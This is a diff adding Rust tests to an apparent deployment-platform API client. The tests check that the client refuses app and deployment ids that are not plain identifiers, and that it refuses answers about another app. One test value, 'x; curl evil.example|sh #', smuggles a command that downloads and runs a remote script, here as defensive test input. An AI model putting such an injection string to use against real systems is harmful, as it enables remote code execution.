@@ -7,7 +7,7 @@ use serde_json::json;
 use tokio::net::TcpListener;
 use tokio_tungstenite::tungstenite::Message;
 
-use super::{Do, app, count, not_found, refuse, run, say, spec};
+use super::{Do, app, app_with_pending, count, not_found, refuse, run, say, spec};
 use crate::model::rollout::Phase;
 use crate::platform::{LogKind, Platform, PlatformError, Rollout};
 use crate::redact::Foreign;
@@ -168,4 +168,41 @@ fn a_running_log_is_followed_to_its_end() {
     );
     assert_eq!(followed.expect("heard"), Some(()));
     assert_eq!(texts, ["one", "two"].map(Foreign::new));
+}
+
+/// It would reach paths, links and commands to paste.
+#[test]
+fn what_is_named_by_no_identifier_is_no_answer_of_this_api() {
+    let evil = "x; curl evil.example|sh #";
+    let deployment = json!({"id": evil, "phase": "ACTIVE"});
+    let answers = json!({"apps": [{"id": evil, "spec": spec("x")}], "app": {"id": evil, "spec": spec("x")},
+        "deployments": [deployment], "deployment": deployment});
+    let asked = async |platform: &Platform| {
+        let errors = [
+            platform.list().await.map(drop),
+            platform.find("shop-pr-12").await.map(drop),
+            platform.app(evil).await.map(drop),
+            platform.deployments("a1", 5).await.map(drop),
+        ];
+        errors.map(|error| error.expect_err("refused").to_string())
+    };
+    for error in run(|_, _| say(answers.clone()), asked).0 {
+        assert!(error.contains("JSON without"), "{error}");
+    }
+    let mut given = app_with_pending(spec("x"), evil);
+    given["active_deployment"]["id"] = json!(evil);
+    let (app, _) = run(
+        |_, _| say(json!({ "app": given })),
+        async |platform| platform.app("a1").await,
+    );
+    let app = app.expect("heard").expect("there");
+    assert!(app.latest.is_none() && app.active.is_none(), "{app:?}");
+}
+
+#[test]
+fn the_answer_about_another_app_is_none_about_this_one() {
+    let other = json!({"app": {"id": "other", "spec": spec("x")}});
+    let (app, _) = run(|_, _| say(other.clone()), async |platform| platform.app("a1").await);
+    let error = app.expect_err("refused").to_string();
+    assert!(error.contains("JSON without an app"), "{error}");
 }
